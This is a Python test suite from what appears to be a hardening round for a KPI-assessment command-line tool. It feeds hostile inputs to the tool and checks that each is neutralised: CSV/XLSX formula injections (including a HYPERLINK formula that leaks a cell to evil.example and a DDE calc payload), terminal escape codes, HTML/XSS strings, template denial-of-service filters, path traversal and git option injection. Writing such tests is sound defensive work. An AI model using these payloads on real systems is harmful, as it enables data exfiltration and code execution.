"""The second hardening round (issue 13): each class of attack with its payload and
variants. Hostile input gets a located error, never a traceback, a hang or a side effect;
text from data reaches no terminal, Markdown, spreadsheet or XML as anything but text."""
import csv
import json
import os
import re
import stat
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from engine.cli import main
from conftest import ROOT

# entities by vendor, their names from the data, a rule that fails with samples and an
# action per entity that prints the name: every path a vendor name can travel
VENDORS = """\
ruleset: hostile_data
title: "{title}"
sources:
  v: {{path: v.csv, key: id, columns: {{id: string, name: string, score: float}}}}
by: id
names: {{source: v, column: name}}
measures:
  mean_score: {{source: v, mean: score}}
kpis:
  quality: {{formula: mean_score, target: 5, category: c, title: "{kpi_title}"}}
categories: {{c: {{}}}}
grades:
  - {{min: 0, grade: A, label: "{label}"}}
checks:
  - {{id: score_range, source: v, rule: range, column: score, min: 1, max: 5, title: "{check_title}", fix: "{fix}"}}
  - {{id: name_known, source: v, rule: allowed_values, column: name, values: ["nobody"]}}
actions:
  - {{id: coach, scope: entity, when: "quality.value > 0", owner: "{owner}", text: "{text}"}}
"""


def write(tmp_path: Path, names: list[str], title: str = "Vendors", kpi_title: str = "Quality",
          label: str = "fine", check_title: str = "Score in range", fix: str = "fix it",
          owner: str = "ops", text: str = "Coach {{ entity.name }}", ids: list[str] | None = None) -> Path:
    def quoted(s: str) -> str:
        return json.dumps(s)[1:-1]  # a YAML double-quoted scalar reads JSON's escapes
    path = tmp_path / "r.yaml"
    path.write_text(VENDORS.format(title=quoted(title), kpi_title=quoted(kpi_title), label=quoted(label),
                                   check_title=quoted(check_title), fix=quoted(fix), owner=quoted(owner),
                                   text=quoted(text)), encoding="utf-8")
    with (tmp_path / "v.csv").open("w", newline="", encoding="utf-8") as f:
        out = csv.writer(f)
        out.writerow(["id", "name", "score"])
        for i, name in enumerate(names):
            out.writerow([ids[i] if ids else f"V{i}", name, 9])  # 9 is out of range: every vendor is a failing sample
    return path


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    assert "internal error" not in err and "Traceback" not in err, err
    return code, out, err


# 1. `assess test` reads only where `run` would

SECRET = "SECRET-VALUE-42"


def test_tests_file_paths_are_held_to_the_run_roots(tmp_path, capsys):
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "v.csv").write_text(f"id,name,score\n{SECRET},x,1\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    write(repo, ["a"])
    os.symlink(secret, repo / "link")
    for data in ["../secret", str(secret), "link"]:
        (repo / "r.tests.yaml").write_text(
            f"cases:\n  - name: leak\n    data: {data}\n    expect: {{kpis: {{quality: 1}}}}\n")
        code, out, _ = run(capsys, "test", str(repo / "r.tests.yaml"))
        assert code == 1 and SECRET not in out, out
        assert "[path-outside]" in out and "r.tests.yaml:3:11:" in out, out
    # the ruleset a tests file names is held the same way
    (secret / "other.yaml").write_text((repo / "r.yaml").read_text())
    (repo / "r.tests.yaml").write_text("ruleset: ../secret/other.yaml\ncases:\n  - {name: x, expect: {score: 1}}\n")
    code, _, err = run(capsys, "test", str(repo / "r.tests.yaml"))
    assert code == 2 and "r.tests.yaml:1:10: error [path-outside]" in err, err
    # --allow-path opens a root, as it does for run: the case now reads the file (and fails on its value)
    (repo / "r.tests.yaml").write_text("cases:\n  - name: allowed\n    data: ../secret\n    expect: {kpis: {quality: 1}}\n")
    code, out, _ = run(capsys, "test", str(repo / "r.tests.yaml"), "--allow-path", str(secret))
    assert code == 0 and "::allowed PASSED" in out, out  # its one vendor scores 1, as expected


# 2. spreadsheets: text stays text

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-3+4", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_xlsx_writes_text_from_data_and_rulesets_as_text(tmp_path, capsys):
    path = write(tmp_path, FORMULAS + ["https://evil.example/x"], title="=1+1", kpi_title="=2+2",
                 text="={{ entity.name }}")
    out = tmp_path / "r.xlsx"
    assert run(capsys, "run", str(path), "--format", "xlsx", "--out", str(out))[0] == 1
    book = openpyxl.load_workbook(out)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    assert not any(sheet._hyperlinks for sheet in book)  # and no link
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # Excel's own escape for a carriage return in a cell: _x000D_
    assert {"=1+1", "=2+2", *(f.replace("\r", "_x000D_") for f in FORMULAS), "https://evil.example/x"} <= texts
    assert '=' + '=HYPERLINK("https://evil.example/?"&A1,"Open")' in {t.replace("Coach ", "") for t in texts}


@pytest.mark.parametrize("engine", ["auto", "duckdb"])
def test_evidence_csv_neutralises_formula_prefixes(tmp_path, capsys, engine):
    path = write(tmp_path, FORMULAS + ["plain", "a=b"])
    assert run(capsys, "run", str(path), "--format", "json", "--evidence", str(tmp_path / "ev"), "--engine", engine)[0] == 1
    rows = list(csv.DictReader((tmp_path / "ev" / "name_known.csv").open(encoding="utf-8", newline="")))
    by_id = {r["id"]: r for r in rows}
    # OWASP: a leading = + - @ tab or CR gets an apostrophe; other values are as they were
    assert [by_id[f"V{i}"]["name"] for i in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
    assert by_id[f"V{len(FORMULAS)}"]["name"] == "plain" and by_id[f"V{len(FORMULAS) + 1}"]["name"] == "a=b"
    score = list(csv.DictReader((tmp_path / "ev" / "score_range.csv").open(encoding="utf-8", newline="")))
    assert {r["score"] for r in score} == {"9.0"}  # numbers are not text: untouched


# 3 and 9. the terminal shows data as written

TERMINAL = ["\x1b]0;pwned\x07\x1b[2J", "[link=https://evil.example/]Beta[/link]", "[/]", "[bold red]x",
            "fake\nPASSED line", "\u202eevil\u202c", "tab\there"]


@pytest.mark.parametrize("color", [False, True])
def test_terminal_output_escapes_control_characters_and_markup(tmp_path, capsys, color):
    from engine.render import render
    from engine.run import assess

    path = write(tmp_path, TERMINAL, title="[/] title \x1b[31m", kpi_title="[/]", label="[link=x]y",
                 text="[/] {{ entity.name }}")
    text = render(assess(path), "table", color=color)
    for raw in ("\x1b]", "\x1b[2J", "\x07", "\u202e", "\x1b]8;"):  # OSC title, clear, link
        assert raw not in text
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in text and "\\x1b[31m" in text  # shown, escaped
    assert "[link=https://evil.example/]Beta[/link]" in text and "[bold red]x" in text
    assert "fake\\nPASSED line" in text and "\\u202eevil" in text
    if not color:
        assert "\x1b" not in text


def test_errors_printed_to_the_terminal_show_control_characters(tmp_path, capsys):
    (tmp_path / "r.yaml").write_text(DATED)
    (tmp_path / "t.csv").write_bytes(b"d\n\x1b]0;pwned\x07\n")
    code, _, err = run(capsys, "run", str(tmp_path / "r.yaml"))
    assert code == 2 and "\x1b" not in err and "\\x1b]0;pwned\\x07" in err and "row 1" in err


DATED = ("ruleset: x\nsources: {t: {path: t.csv, columns: {d: date}}}\n"
         "measures: {n: {source: t, count: true, where: \"d >= date('2000-01-01')\"}}\n"
         "kpis: {k: {formula: n, target: 1, category: c}}\ncategories: {c: {}}\n")


# 4. Markdown shows HTML and links as text

HTML = "<script>alert(1)</script>"


def test_markdown_escapes_html_links_and_pipes_from_data_and_rulesets(tmp_path, capsys):
    path = write(tmp_path, [HTML, "[Beta](https://evil.example/)", "a | b", "<img src=x onerror=alert(1)>"],
                 title=HTML, kpi_title=HTML, label=HTML, check_title=HTML, fix=HTML, owner=HTML,
                 text=HTML + " {{ entity.name }}")
    code, md, _ = run(capsys, "run", str(path), "--format", "md")
    assert code == 1
    assert "<script" not in md and "<img" not in md and not re.search(r"(?<!\\)\]\(https://evil", md)
    assert md.count("&lt;script>alert(1)&lt;/script>") >= 8  # title, KPI, label, check, fix, owner, action, name
    assert "\\[Beta\\](https://evil.example/)" in md
    for line in md.splitlines():  # `a | b` stays in its cell: every row of a table has its header's cells
        if "a \\| b" in line and line.startswith("|"):
            assert line.replace("\\|", "").count("|") in (6, 4, 3)
    diff_md = run(capsys, "diff", str(path), str(path), "--format", "md")[1]
    assert "<" not in diff_md.replace("&lt;", "")


# 5. action templates: only bounded filters

@pytest.mark.parametrize("text", [
    "{{ 'x' | center(3000000000) }}", '{{ "%03000000000d" % 1 }}', "{{ '%s' | format(1) }}",
    "{{ 'x' | indent(3000000000) }}", "{{ entity.name | batch(1000000000) }}",
    "{{ entity.name | replace('', 'xxxxxxxxxx') | replace('x', 'yyyyyyyyyy') }}", "{{ 'x' | wordwrap(5) }}",
    "{{ 'x' | truncate(100000000) }}", "{{ quality.value | number(1000000) }}",
    "{{ entity.name | join(entity.name) }}", "{{ entity.name | attr('x') }}", "{{ 'x' | default('y' ~ 'z') }}",
])
def test_unbounded_template_filters_are_refused_at_validation(tmp_path, capsys, text):
    path = write(tmp_path, ["a"], text=text)
    code, out, _ = run(capsys, "validate", str(path))
    assert code == 1 and "[template]" in out and "r.yaml:18:" in out, out


def test_allowed_filters_render_and_the_text_is_bounded(tmp_path, capsys):
    path = write(tmp_path, ["a"], text="{{ quality.value | number(1) }} {{ quality.score | round(0) | int }} "
                 "{{ entity.name | upper | truncate(10) }} {{ entity.rank | default('-') }}")
    result = json.loads(run(capsys, "run", str(path), "--format", "json")[1])
    # value 9, score 9/5 capped by the ratio clip of 2 -> 100; rank 1 of 1
    assert result["actions"][0]["text"] == "9 100 A 1"
    long = "N" * 5000
    path = write(tmp_path, [long], text="{{ entity.name }}" * 6)  # 30,000 characters asked for
    result = json.loads(run(capsys, "run", str(path), "--format", "json")[1])
    assert result["actions"][0]["text"] == long * 2  # cut at 10,000


def test_the_sandbox_refuses_arithmetic_on_text_at_render_too():
    from engine.recommend import environment

    with pytest.raises(Exception, match="not allowed"):
        environment().from_string('{{ "%0900000000d" % 1 }}').render()
    assert "center" not in environment().filters and "percent" in environment().filters


# 6. --out onto what is not a regular file

def test_out_onto_devices_fifos_and_folders(tmp_path, capsys):
    path = write(tmp_path, ["a"])
    assert run(capsys, "run", str(path), "--format", "md", "--out", "/dev/null")[0] == 1
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)  # still the device, not a file renamed over it
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    assert run(capsys, "run", str(path), "--format", "json", "--out", str(fifo))[0] == 1
    reader.join(10)
    assert stat.S_ISFIFO(os.stat(fifo).st_mode) and json.loads(got[0])["ruleset"] == "hostile_data"
    code, _, err = run(capsys, "run", str(path), "--out", str(tmp_path))
    assert code == 2 and "is a folder" in err


@pytest.mark.parametrize("target,why", [("/dev/full", "No space left"), ("/proc/report.md", "cannot write")])
def test_a_full_disk_or_a_read_only_place_is_a_clear_error(tmp_path, capsys, target, why):
    code, _, err = run(capsys, "run", str(write(tmp_path, ["a"])), "--format", "md", "--out", target)
    assert code == 2 and f"cannot write {target}" in err and why in err


# 7. no quadratic input

@pytest.mark.parametrize("engine", ["auto", "duckdb"])
def test_a_header_of_100000_columns_is_checked_in_one_pass(tmp_path, capsys, engine):
    names = [f"c{i}" for i in range(100_000)] + ["c99999"]
    (tmp_path / "t.csv").write_text(",".join(names) + "\n" + ",".join("1" * len(names)) + "\n")
    (tmp_path / "r.yaml").write_text("ruleset: wide\nsources: {t: {path: t.csv}}\nmeasures: {n: {source: t, count: true}}\n"
                                     "kpis: {k: {formula: n, target: 1, category: c}}\ncategories: {c: {}}\n")
    code, _, err = run(capsys, "run", str(tmp_path / "r.yaml"), "--engine", engine)
    assert code == 2 and "[duplicate-column]" in err and "`c99999`" in err


def test_suggestions_are_bounded(tmp_path, capsys):
    from engine.errors import Suggestions

    lines = ["ruleset: many", "sources: {t: {path: t.csv, columns: {a: int}}}", "measures:"]
    lines += [f"  measure_{i}: {{source: t, count: true}}" for i in range(300)]
    lines += ["kpis:"] + [f"  k{i}: {{formula: 'mesure_{i} + 1', target: 1, category: c}}" for i in range(300)]
    (tmp_path / "r.yaml").write_text("\n".join(lines + ["categories: {c: {}}"]) + "\n")
    code, out, _ = run(capsys, "validate", str(tmp_path / "r.yaml"))
    assert code == 1 and out.count("[unknown-name]") == 300  # every problem is said...
    hints = [line for line in out.splitlines() if "did you mean" in line]
    assert len(hints) == Suggestions().left  # ...the first ones with a suggestion
    assert "`mesure_0`" in hints[0] and "did you mean `measure_0`?" in hints[0]


# 8 and 13. XLSX sources: bombs, formulas without values, duplicate headers

XLSX_RULESET = ("ruleset: book\nsources: {t: {path: t.xlsx, columns: {a: int}}}\n"
                "measures: {n: {source: t, count: true}, total: {source: t, sum: a}}\n"
                "kpis: {k: {formula: total, target: 1, category: c}}\ncategories: {c: {}}\n")


def book(tmp_path: Path, rows: list[list]) -> Path:
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    wb.save(tmp_path / "t.xlsx")
    (tmp_path / "r.yaml").write_text(XLSX_RULESET)
    return tmp_path / "r.yaml"


def test_xlsx_unpacked_size_is_limited_and_the_limit_can_be_raised(tmp_path, capsys, monkeypatch):
    path = book(tmp_path, [["a"]] + [[i] for i in range(40_000)])
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        unpacked = sum(i.file_size for i in z.infolist())
    assert 1_000_000 < unpacked < 20_000_000
    monkeypatch.setenv("ASSESS_MAX_XLSX_MB", "1")
    code, _, err = run(capsys, "run", str(path))
    assert code == 2 and "[xlsx-too-large]" in err and "ASSESS_MAX_XLSX_MB" in err and "r.yaml:2:" in err
    monkeypatch.setenv("ASSESS_MAX_XLSX_MB", "20")
    code, out, _ = run(capsys, "run", str(path), "--format", "json")
    assert code == 0 and json.loads(out)["kpis"][0]["value"] == sum(range(40_000))
    (tmp_path / "t.xlsx").write_bytes(b"PK\x03\x04 not really a zip")
    code, _, err = run(capsys, "run", str(path))
    assert code == 2 and "not an XLSX workbook" in err


def test_xlsx_formulas_without_saved_values_and_duplicate_headers_are_refused(tmp_path, capsys):
    path = book(tmp_path, [["a", "b"], [1, "=1+1"]])
    code, _, err = run(capsys, "run", str(path))
    assert code == 2 and "[xlsx-formula]" in err and "cell B2" in err
    book(tmp_path, [["a", "b", "a"], [1, 2, 3]])
    code, _, err = run(capsys, "run", str(path))
    assert code == 2 and "[duplicate-column]" in err and "`a`" in err


# 10. one bad history file

def test_bad_history_files_are_skipped_with_a_warning(tmp_path, capsys):
    path = write(tmp_path, ["a"])
    history = tmp_path / "history"
    assert run(capsys, "run", str(path), "--format", "json", "--history", str(history))[0] == 1
    folder = history / "hostile_data"
    (folder / "99990101T000000000000Z.parquet").write_bytes(b"PAR1 corrupt")
    (folder / "99990102T000000000000Z.parquet").mkdir()
    pl.DataFrame({"other": [1]}).write_parquet(folder / "99990103T000000000000Z.parquet")
    report = tmp_path / "report.json"
    code, _, err = run(capsys, "run", str(path), "--format", "json", "--out", str(report), "--history", str(history))
    assert code == 1 and json.loads(report.read_text())["since_last"] == 0  # compared with the good run
    for name in ("99990101", "99990102", "99990103"):
        assert f"{name}T000000000000Z.parquet: skipped" in err
    code, out, err = run(capsys, "history", str(history))
    assert code == 0 and len(out.strip().splitlines()) == 2 and err.count("skipped") == 3


# 11. data values that crashed reports

@pytest.mark.parametrize("value", ["0000-01-01", "10000-01-01", "-001-01-01"])
@pytest.mark.parametrize("fmt", ["json", "html", "xlsx", "table"])
def test_dates_outside_the_years_1_to_9999_are_located_errors(tmp_path, capsys, value, fmt):
    (tmp_path / "r.yaml").write_text(DATED)
    (tmp_path / "t.csv").write_text(f"d\n2025-01-01\n{value}\n")
    code, _, err = run(capsys, "run", str(tmp_path / "r.yaml"), "--format", fmt, "--out", str(tmp_path / "o"))
    assert code == 2 and f"row 2: `{value}`" in err and "r.yaml:2:" in err


@pytest.mark.parametrize("key", [[b"\x00\xffab", b"x"], [__import__("decimal").Decimal("1.50"), __import__("decimal").Decimal("2")]])
def test_binary_and_decimal_keys_reach_every_report(tmp_path, capsys, key):
    (tmp_path / "r.yaml").write_text("ruleset: keys\nsources: {t: {path: t.parquet, key: id, columns: {n: int}}}\n"
                                     "measures: {rows: {source: t, count: true}}\n"
                                     "kpis: {k: {formula: rows, target: 1, category: c}}\ncategories: {c: {}}\n"
                                     "checks: [{id: positive, source: t, rule: range, column: n, min: 0}]\n")
    pl.DataFrame({"id": key, "n": [-1, 2]}).write_parquet(tmp_path / "t.parquet")
    for fmt in ("json", "html", "md", "junit", "xlsx"):
        assert run(capsys, "run", str(tmp_path / "r.yaml"), "--format", fmt, "--out", str(tmp_path / f"o.{fmt}"))[0] == 1
    sample = json.loads((tmp_path / "o.json").read_text())["checks"][0]["samples"][0]
    assert sample["n"] == -1 and sample["id"] in ("\x00\\xffab", 1.5)  # bytes not UTF-8 shown escaped
    assert openpyxl.load_workbook(tmp_path / "o.xlsx")


def test_junit_stays_valid_xml_with_control_characters_in_the_data(tmp_path, capsys):
    path = write(tmp_path, ["\x00nul", "\x1b[2J", "\x0bvt", "\ufffe"], check_title="a\x01b", ids=["\x02id", "b", "c", "d"])
    code, out, _ = run(capsys, "run", str(path), "--format", "junit")
    assert code == 1
    failure = ET.fromstring(out).find(".//failure")  # parses: the whole report reaches CI
    assert failure is not None and "id=\\x02id" in failure.text and "a\\x01b" in failure.get("message")
    names = ET.fromstring(out).findall(".//failure")[1].text
    assert "name=\\x00nul" in names and "name=\\x1b[2J" in names and "\\ufffe" in names
    path = tmp_path / "bad\x01.yaml"
    path.write_text("ruleset: [")
    assert ET.fromstring(run(capsys, "validate", str(path), "--format", "junit")[1]) is not None


# 12. internal errors that are now located

@pytest.mark.parametrize("text,rule,where", [
    ("a: " + "[" * 5000 + "]" * 5000 + "\n", "yaml-too-deep", "r.yaml:1:"),
    ("a: " + "[" * 150 + "]" * 150 + "\n", "yaml-too-deep", "r.yaml:1:"),
    ("ruleset: x\n<<: 1\n", "yaml-merge", "r.yaml:2:5:"),
    ("ruleset: x\nb: &b {c: *b}\n", "yaml-alias", "r.yaml:2:"),
    ("a: &a [*a]\n", "yaml-alias", "r.yaml:1:"),
    ("- a\n- b\n", "schema", "r.yaml:1:1:"),
    ("hello\n", "schema", "r.yaml:1:1:"),
    ("42\n", "schema", "r.yaml:1:1:"),
])
def test_malformed_yaml_gives_located_errors(tmp_path, capsys, text, rule, where):
    (tmp_path / "r.yaml").write_text(text)
    code, out, _ = run(capsys, "validate", str(tmp_path / "r.yaml"))
    assert code == 1 and f"[{rule}]" in out and where in out, out


def test_1200_kpis_chained_in_reverse_order(tmp_path, capsys):
    n = 1200
    lines = ["ruleset: chain", "sources: {t: {path: t.csv, columns: {a: int}}}",
             "measures: {m: {source: t, count: true}}", "kpis:"]
    lines += [f"  k{i}: {{formula: '{'m' if i == n - 1 else f'k{i + 1} + 1'}', target: 1, category: c}}" for i in range(n)]
    (tmp_path / "r.yaml").write_text("\n".join(lines + ["categories: {c: {}}"]) + "\n")
    (tmp_path / "t.csv").write_text("a\n1\n2\n")
    code, out, _ = run(capsys, "run", str(tmp_path / "r.yaml"), "--format", "json")
    kpis = {k["id"]: k["value"] for k in json.loads(out)["kpis"]}
    assert code == 0 and kpis["k1199"] == 2 and kpis["k0"] == 2 + 1199  # m = 2 rows, one added per step


@pytest.mark.parametrize("start,end,extra,args", [
    ("0001-01-01", "0001-12-31", "compare: previous\n", []),
    ("0001-01-01", "0001-01-31", "trend: month\n", []),
    ("2025-01-01", "2025-12-31", "compare: previous\n", ["--param", "period_start=0001-01-01"]),
    ("9999-01-01", "9999-12-31", "trend: month\n", []),
    ("0002-01-01", "9998-12-31", "trend: month\n", []),
])
def test_periods_at_the_edges_of_the_calendar(tmp_path, capsys, start, end, extra, args):
    (tmp_path / "r.yaml").write_text(f"ruleset: p\nparams: {{period_start: {start}, period_end: {end}}}\n{extra}"
                                     "sources: {t: {path: t.csv, columns: {a: int}}}\n"
                                     "measures: {m: {source: t, count: true}}\n"
                                     "kpis: {k: {formula: m, target: 1, category: c}}\ncategories: {c: {}}\n")
    (tmp_path / "t.csv").write_text("a\n1\n")
    code, _, err = run(capsys, "run", str(tmp_path / "r.yaml"), *args)
    assert code == 2 and "[period]" in err and "r.yaml" in err


# 13. silently wrong

@pytest.mark.parametrize("field,value", [("target", ".nan"), ("target", ".inf"), ("weight", ".nan"),
                                         ("floor", "-.inf"), ("weight", ".inf")])
def test_nan_and_infinity_are_refused(tmp_path, capsys, field, value):
    (tmp_path / "r.yaml").write_text("ruleset: x\nsources: {t: {path: t.csv, columns: {a: int}}}\n"
                                     "measures: {m: {source: t, count: true}}\n"
                                     f"kpis: {{k: {{formula: m, category: c, {'target: 1, ' if field != 'target' else ''}{field}: {value}}}}}\n"
                                     "categories: {c: {}}\n")
    code, out, _ = run(capsys, "validate", str(tmp_path / "r.yaml"))
    assert code == 1 and "r.yaml:4:" in out and "[number]" in out and f"kpis.k.{field}" in out


def test_nan_params_are_refused_on_the_command_line(tmp_path, capsys):
    (tmp_path / "r.yaml").write_text("ruleset: x\nparams: {goal: 1.0}\nsources: {t: {path: t.csv, columns: {a: int}}}\n"
                                     "measures: {m: {source: t, count: true}}\n"
                                     "kpis: {k: {formula: m / goal, target: 1, category: c}}\ncategories: {c: {}}\n")
    (tmp_path / "t.csv").write_text("a\n1\n")
    for value in ("nan", "inf", "-inf"):
        code, _, err = run(capsys, "run", str(tmp_path / "r.yaml"), "--param", f"goal={value}")
        assert code == 2 and "[param-type]" in err


@pytest.mark.parametrize("engine", ["auto", "duckdb"])
def test_durations_out_of_range(tmp_path, capsys, engine):
    ruleset = ("ruleset: x\nsources: {t: {path: t.csv, columns: {d: date, n: int}}}\n"
               "measures: {late: {source: t, count: true, where: \"d + days(%s) > date('2025-06-01')\"}}\n"
               "kpis: {k: {formula: late, target: 1, category: c}}\ncategories: {c: {}}\n")
    (tmp_path / "t.csv").write_text("d,n\n2025-01-01,200000000\n2025-01-01,365\n2025-01-01,1\n")
    (tmp_path / "r.yaml").write_text(ruleset % "200000000")
    code, _, err = run(capsys, "run", str(tmp_path / "r.yaml"), "--engine", engine)
    assert code == 2 and "r.yaml:3:" in err and "out of range" in err
    (tmp_path / "r.yaml").write_text(ruleset % "n")
    code, out, _ = run(capsys, "run", str(tmp_path / "r.yaml"), "--format", "json", "--engine", engine)
    # 2025-01-01 + 365 days is after June; + 1 day is not; 200,000,000 days is no date: not counted
    assert code == 0 and json.loads(out)["kpis"][0]["value"] == 1


@pytest.mark.parametrize("formula,folded", [("ｓ / ｎ", "s"), ("s / ｎ", "n"), ("ﬁ + s", "fi")])
def test_full_width_names_are_refused(tmp_path, capsys, formula, folded):
    (tmp_path / "r.yaml").write_text("ruleset: x\nsources: {t: {path: t.csv, columns: {a: string}}}\n"
                                     "measures: {s: {source: t, count: true}, n: {source: t, count: true}, "
                                     "fi: {source: t, count: true, where: \"a == 'ｆｕｌｌ'\"}}\n"
                                     f"kpis: {{k: {{formula: \"{formula}\", target: 1, category: c}}}}\n"
                                     "categories: {c: {}}\n")
    code, out, _ = run(capsys, "validate", str(tmp_path / "r.yaml"))
    assert code == 1 and "[expression-name]" in out and f"reads as `{folded}`" in out and "r.yaml:4:" in out
    assert out.count("[expression-name]") == 1  # the full-width text in quotes is data, and fine


# 14. the smaller ones

@pytest.mark.parametrize("where", ["ruleset", "kpi", "check"])
def test_names_ending_in_a_newline_are_refused(tmp_path, capsys, where):
    names = {"ruleset": "x", "kpi": "k", "check": "chk"}
    names[where] += "\\n"
    (tmp_path / "r.yaml").write_text(
        f"ruleset: \"{names['ruleset']}\"\nsources: {{t: {{path: t.csv, columns: {{a: int}}}}}}\n"
        "measures: {m: {source: t, count: true}}\n"
        f"kpis: {{\"{names['kpi']}\": {{formula: m, target: 1, category: c}}}}\ncategories: {{c: {{}}}}\n"
        f"checks: [{{id: \"{names['check']}\", source: t, rule: not_null, column: a}}]\n")
    code, out, _ = run(capsys, "validate", str(tmp_path / "r.yaml"))
    assert code == 1 and "does not match" in out


def test_sigterm_removes_the_temporary_report_and_keeps_the_previous_one(tmp_path):
    path = write(tmp_path, ["a"])
    report = tmp_path / "report.md"
    report.write_text("previous")
    # the signal arrives while the report is being written: after the temporary file, before the rename
    script = ("import os, signal, sys\nfrom engine.cli import main\n"
              "os.replace = lambda *a: os.kill(os.getpid(), signal.SIGTERM)\n"
              "sys.exit(main(sys.argv[1:]))")
    proc = subprocess.run([sys.executable, "-c", script, "run", str(path), "--format", "md", "--out", str(report)],
                          capture_output=True, text=True, cwd=ROOT)
    assert proc.returncode == 143 and "terminated" in proc.stderr
    assert report.read_text() == "previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.yaml", "report.md", "v.csv"]


@pytest.mark.parametrize("ref", ["--output=pwned", "-p", "--exec=touch pwned"])
def test_git_refs_are_never_options(tmp_path, capsys, ref):
    path = write(tmp_path, ["a"])
    code, _, err = run(capsys, "diff", f"--git={ref}", str(path))
    assert code == 2 and "does not start with `-`" in err
    assert not (tmp_path / "pwned").exists() and not (ROOT / "pwned").exists()


def test_shipped_rulesets_still_validate_and_test(capsys):
    assert main(["validate", str(ROOT / "rulesets")]) == 0
    assert main(["test", str(ROOT / "rulesets")]) == 0


def test_huge_values_score_without_overflow(tmp_path, capsys):
    """The fuzzer's find: peers of ±1e300 overflowed the squares of the standard deviation."""
    path = write(tmp_path, ["a", "b", "c"])
    path.write_text(path.read_text().replace("target: 5,", "scoring: {method: zscore},"))
    (tmp_path / "v.csv").write_text("id,name,score\nA,a,-1e300\nB,b,1e300\nC,c,3\n")
    code, out, _ = run(capsys, "run", str(path), "--format", "json")
    scores = {e["id"]: e["kpis"][0]["score"] for e in json.loads(out)["entities"]}
    # mean about 1, standard deviation 1e300 * sqrt(2/3): z of B is sqrt(3/2) = 1.2247, and
    # a z-score scores 50 + 50 z / 2
    z = 1.5 ** 0.5
    assert code == 1
    assert scores["B"] == pytest.approx(50 + 25 * z) and scores["A"] == pytest.approx(50 - 25 * z)
    assert scores["C"] == pytest.approx(50)


def test_infinite_values_are_text_in_the_workbook_not_error_formulas(tmp_path, capsys):
    """The fuzzer's find: 1e309 reads as inf, which xlsxwriter wrote as the formula =1/0."""
    path = write(tmp_path, ["a", "b"])
    (tmp_path / "v.csv").write_text("id,name,score\nA,a,1e309\nB,b,3\n")
    assert run(capsys, "run", str(path), "--format", "xlsx", "--out", str(tmp_path / "o.xlsx"))[0] == 1
    cells = [c for s in openpyxl.load_workbook(tmp_path / "o.xlsx") for r in s.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "inf" in {c.value for c in cells}  # the sample of A, as the table shows it


def test_infinite_settings_are_located_errors(tmp_path, capsys):
    """The fuzzer's find: `samples: .inf` stopped validation with an OverflowError."""
    (tmp_path / "r.yaml").write_text("ruleset: x\nsettings: {samples: .inf, near_margin: .nan}\n"
                                     "sources: {t: {path: t.csv, columns: {a: int}}}\n"
                                     "measures: {m: {source: t, count: true}}\n"
                                     "kpis: {k: {formula: m, target: 1, category: c}}\ncategories: {c: {}}\n")
    code, out, _ = run(capsys, "validate", str(tmp_path / "r.yaml"))
    assert code == 1 and "settings.samples" in out and "settings.near_margin" in out and out.count("[number]") == 2
